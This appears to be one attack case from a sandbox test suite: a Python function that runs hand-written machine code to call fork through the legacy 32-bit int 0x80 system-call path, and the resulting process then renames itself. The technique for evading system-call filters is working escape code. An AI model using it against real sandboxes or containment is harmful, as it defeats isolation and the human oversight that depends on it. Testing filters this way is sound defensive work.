"""Use the 32-bit table, where fork is number 2. Success: a second process."""

import ctypes
import mmap
import platform


def attack():
    if platform.machine() != "x86_64":
        return
    page = mmap.mmap(-1, 4096, prot=7)
    # eax = 2; int 0x80; ret
    page.write(b"\xb8\x02\0\0\0\xcd\x80\xc3")
    code = ctypes.CFUNCTYPE(ctypes.c_int)(
        ctypes.addressof(ctypes.c_char.from_buffer(page))
    )
    if code() == 0:
        import os
        import time

        ctypes.CDLL(None).prctl(15, ESCAPEE)
        time.sleep(5)
        os._exit(0)
